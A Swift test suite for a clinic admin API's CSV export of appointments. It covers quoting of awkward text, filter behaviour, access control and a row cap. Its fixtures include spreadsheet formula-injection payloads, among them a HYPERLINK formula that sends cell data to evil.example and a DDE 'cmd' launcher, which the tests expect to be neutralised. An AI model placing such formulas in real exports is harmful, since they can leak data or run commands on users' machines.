// `exportAppointments`: RFC 4180 CSV parsed back by Python's csv module,
// tricky reasons, filter semantics like `appointments`, the row cap.
import ClinicDomain
import Foundation
import JSON
import Postgres
@testable import Resolvers
import Schema
import TestSupport
import XCTest

final class AdminExportTests: XCTestCase {
    struct Fixture: Sendable {
        let api: AdminAPI
        let admin: HarnessUser
        let client: HarnessUser
        let cardio: HarnessUser
        let derma: HarnessUser
        let patient: HarnessUser
        let today: LocalDate
        let ids: [String: Int64]   // reason → appointment id
    }

    static let tricky = [
        "plain",
        "chest pain, left side",
        "says \"it hurts\" a lot",
        "line one\nline two",
        "windows\r\nline end",
        "café, niño — dolor de cabeza ñÑ 😷",
        "\"quoted\", then,commas\n\"again\"",
        "  spaces around  ",
        "",
    ]

    /// Reasons a spreadsheet would run as formulas (OWASP CSV injection).
    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "\tcmd",
        "\r=1+2",
    ]

    /// What a spreadsheet must see for `text`: formulas behind a leading `'`.
    static func neutralized(_ text: String) -> String {
        guard let first = text.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return text }
        return "'" + text
    }

    static let box = Once<Fixture>()

    static func make() async throws -> Fixture {
        let h = try await ClinicTestHarness.fresh(prefix: "admin_export")
        let api = try AdminAPI(h)
        let data = AdminData(h: h)
        let admin = try await h.createUser(role: .ADMIN)
        let client = try await h.createUser(role: .CLIENT, patient: true)
        let cardio = try await data.doctor(firstName: "José", lastName: "Muñoz, Jr.", specialization: "Cardiology", fee: "50.00")
        let derma = try await data.doctor(lastName: "Smith", specialization: "Dermatology", fee: "40.00")
        let patient = try await h.createUser(email: "zoe.obrien@example.test", firstName: "Zoë \"Z\"", lastName: "O'Brien", patient: true)
        let formulaPatient = try await h.createUser(email: "formula@example.test", firstName: "=cmd|' /C calc'!A0", lastName: "Evil", patient: true)
        let today = try await data.today()
        var ids: [String: Int64] = [:]
        for (i, reason) in tricky.enumerated() {
            let doctor = i % 2 == 0 ? cardio : derma
            let status = ["SCHEDULED", "COMPLETED", "CANCELLED"][i % 3]
            ids[reason] = try await data.appointment(doctor: doctor, patient: i % 2 == 0 ? patient : client, date: today.adding(days: i - 4),
                                                     time: "10:00", status: status, reason: reason)
        }
        for (i, reason) in formulas.enumerated() {
            ids[reason] = try await data.appointment(doctor: i % 2 == 0 ? cardio : derma, patient: formulaPatient,
                                                     date: today.adding(days: i - 4), time: "11:00", status: "SCHEDULED", reason: reason)
        }
        return Fixture(api: api, admin: admin, client: client, cardio: cardio, derma: derma, patient: patient, today: today, ids: ids)
    }

    /// Parses CSV with Python's csv module (strict RFC 4180 dialect); returns the records.
    func parseWithPython(_ csv: String) throws -> [[String]] {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("admin-csv-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let input = dir.appendingPathComponent("in.csv")
        try Data(csv.utf8).write(to: input)
        let script = """
            import csv, json, sys
            with open(sys.argv[1], newline='', encoding='utf-8') as f:
                rows = list(csv.reader(f, dialect='excel', strict=True))
            raw = open(sys.argv[1], 'rb').read()
            # Every record ends with CRLF; no bare LF outside quoted fields is checked by re-encoding:
            # minimal quoting, except that a neutralized formula ('=...) is always quoted.
            def field(text):
                if text == '': return ''  # the writer quotes a lone empty field; within a record it does not
                buf = __import__('io').StringIO(newline='')
                neutralized = len(text) > 1 and text[0] == "'" and text[1] in "=+-@\\t\\r"
                csv.writer(buf, dialect='excel', lineterminator='\\r\\n', quoting=csv.QUOTE_ALL if neutralized else csv.QUOTE_MINIMAL).writerow([text])
                return buf.getvalue()[:-2]
            encoded = ''.join(','.join(field(f) for f in row) + '\\r\\n' for row in rows)
            print(json.dumps({"rows": rows, "roundtrip": encoded.encode('utf-8') == raw}))
            """
        let run = try ProcessRunner.run("/usr/bin/python3", ["-c", script, input.path])
        XCTAssertEqual(run.status, 0, run.standardError)
        let obj = try JSONSerialization.jsonObject(with: run.stdout) as? [String: Any]
        XCTAssertEqual(obj?["roundtrip"] as? Bool, true, "Python's writer produces byte-identical CSV (minimal quoting, CRLF)")
        return (obj?["rows"] as? [[String]]) ?? []
    }

    func export(_ f: Fixture, _ filter: JSON?, as viewer: Viewer? = nil) async -> HarnessResponse {
        var vars: [String: JSON] = [:]
        if let filter { vars["f"] = filter }
        return await f.api.request("query($f: AppointmentFilter) { exportAppointments(filter: $f) }", variables: vars,
                                   as: viewer ?? f.admin.viewer)
    }

    func testTrickyReasonsSurviveAStrictCSVParser() async throws {
        let f = try await Self.box.get { try await Self.make() }
        let r = await export(f, nil)
        XCTAssertEqual(r.codes, [])
        let csv = try XCTUnwrap(r.json.at("data.exportAppointments")?.stringValue)
        XCTAssertTrue(csv.hasPrefix("id,date,time,startsAt,status,doctor,specialization,patient,patientEmail,reason,createdAt,cancellationReason\r\n"))
        XCTAssertTrue(csv.hasSuffix("\r\n"))
        let rows = try parseWithPython(csv)
        XCTAssertEqual(rows.first, AppointmentExport.header)
        XCTAssertEqual(rows.count, Self.tricky.count + Self.formulas.count + 1)
        // Expected values from independent SQL.
        let expected = try await f.api.h.sql("""
            SELECT a.id, a.local_date::text AS d, to_char(a.local_time, 'HH24:MI') AS t, a.status, a.reason, d.specialization,
                   du.first_name || ' ' || du.last_name AS doctor, pu.first_name || ' ' || pu.last_name AS patient, pu.email,
                   to_char(a.starts_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS') AS starts
              FROM appointments a JOIN doctors d ON d.id = a.doctor_id JOIN users du ON du.id = d.user_id
              JOIN patients p ON p.id = a.patient_id JOIN users pu ON pu.id = p.user_id ORDER BY a.starts_at, a.id
            """)
        XCTAssertEqual(expected.count, rows.count - 1)
        for (i, e) in expected.rows.enumerated() {
            let row = rows[i + 1]
            XCTAssertEqual(row.count, 12)
            XCTAssertEqual(row[0], GlobalID.encode(type: "Appointment", id: Int64(try e.int("id"))))
            XCTAssertEqual(Array(row[1...2]), [try e.string("d"), try e.string("t")])
            XCTAssertTrue(row[3].hasPrefix(try e.string("starts")), "\(row[3])")
            XCTAssertEqual(row[4], try e.string("status"))
            XCTAssertEqual(row[5], try e.string("doctor"))
            XCTAssertEqual(row[6], try e.string("specialization"))
            XCTAssertEqual(row[7], Self.neutralized(try e.string("patient")))
            XCTAssertEqual(row[8], try e.string("email"))
            XCTAssertEqual(row[9], Self.neutralized(try e.string("reason")))
            XCTAssertNotNil(Instant(rfc3339: row[10]))
            XCTAssertEqual(row[11], "", "not cancelled: no cancellation reason")
        }
        XCTAssertEqual(Set(rows.dropFirst().map { $0[9] }), Set((Self.tricky + Self.formulas).map(Self.neutralized)))
        XCTAssertTrue(rows.contains { $0[7] == "'=cmd|' /C calc'!A0 Evil" })
        // No cell of the file starts a formula.
        for row in rows { for cell in row { XCTAssertFalse("=+-@\t\r".contains(cell.first ?? "x"), "\(cell)") } }
        XCTAssertTrue(rows.contains { $0[5] == "José Muñoz, Jr." })
    }

    func testFilterSemanticsMatchTheAppointmentsQuery() async throws {
        let f = try await Self.box.get { try await Self.make() }
        let filters: [JSON] = [
            .object([("status", .array([.string("CANCELLED"), .string("COMPLETED")]))]),
            .object([("doctorId", .string(GlobalID.encode(type: "Doctor", id: f.cardio.doctorID!)))]),
            .object([("patientId", .string(GlobalID.encode(type: "Patient", id: f.patient.patientID!)))]),
            .object([("from", .string(f.today.adding(days: -2).iso)), ("to", .string(f.today.adding(days: 2).iso))]),
            .object([("specialization", .string("dermatology"))]),
            .object([("from", .string(f.today.iso)), ("specialization", .string("Cardiology")), ("status", .array([.string("SCHEDULED")]))]),
        ]
        for filter in filters {
            let r = await export(f, filter)
            XCTAssertEqual(r.codes, [], "\(filter)")
            let rows = try parseWithPython(r.json.at("data.exportAppointments")?.stringValue ?? "")
            let list = await f.api.request("""
                query($f: AppointmentFilter) { appointments(filter: $f, first: 100) { nodes { id } } }
                """, variables: ["f": filter], as: f.admin.viewer)
            let ids = (list.json.at("data.appointments.nodes")?.arrayValue ?? []).compactMap { $0["id"]?.stringValue }
            XCTAssertFalse(ids.isEmpty, "\(filter)")
            XCTAssertEqual(rows.dropFirst().map { $0[0] }, ids, "\(filter)")
        }
        let bad = await export(f, .object([("doctorId", .string("nope"))]))
        XCTAssertEqual(bad.codes, ["BAD_USER_INPUT"])
        XCTAssertEqual(bad.errors.first?["extensions"]?["field"]?.stringValue, "filter.doctorId")
        let empty = await export(f, .object([("from", .string("1999-01-01")), ("to", .string("1999-01-31"))]))
        XCTAssertEqual(empty.json.at("data.exportAppointments")?.stringValue,
                       AppointmentExport.header.joined(separator: ",") + "\r\n")
    }

    func testOnlyStaffMayExport() async throws {
        let f = try await Self.box.get { try await Self.make() }
        let client = await export(f, nil, as: f.client.viewer)
        XCTAssertEqual(client.codes, ["FORBIDDEN"])
        let anon = await f.api.request("{ exportAppointments }", as: nil)
        XCTAssertEqual(anon.codes, ["UNAUTHENTICATED"])
    }

    func testRefusesExportsOverTheRowCap() async throws {
        let h = try await ClinicTestHarness.fresh(prefix: "admin_export_cap")
        let api = try AdminAPI(h)
        let data = AdminData(h: h)
        let admin = try await h.createUser(role: .ADMIN)
        let doctor = try await data.doctor(lastName: "Busy", specialization: "Cardiology", fee: "1.00")
        let patient = try await h.createUser(patient: true)
        // Cancelled rows do not occupy their slot, so one instant can repeat.
        try await h.sql("""
            INSERT INTO appointments (patient_id, doctor_id, local_date, local_time, starts_at, ends_at, status)
            SELECT $1, $2, date '2030-01-01' + (i % 300), time '10:00', timestamptz '2030-01-01 16:00Z' + make_interval(days => i % 300),
                   timestamptz '2030-01-01 16:30Z' + make_interval(days => i % 300), 'CANCELLED'
              FROM generate_series(1, $3::int) AS i
            """, [.int(Int(patient.patientID!)), .int(Int(doctor.doctorID!)), .int(AppointmentExport.maximumRows + 1)])
        let over = await api.request("{ exportAppointments }", as: admin.viewer)
        XCTAssertEqual(over.codes, ["BAD_USER_INPUT"])
        XCTAssertTrue(over.errors.first?["message"]?.stringValue?.contains("narrow the filter") == true)
        let narrowed = await api.request("""
            { exportAppointments(filter: { from: "2030-01-01", to: "2030-03-31" }) }
            """, as: admin.viewer)
        XCTAssertEqual(narrowed.codes, [])
        let lines = narrowed.json.at("data.exportAppointments")?.stringValue?.components(separatedBy: "\r\n").count ?? 0
        XCTAssertGreaterThan(lines, 10_000)
    }
}
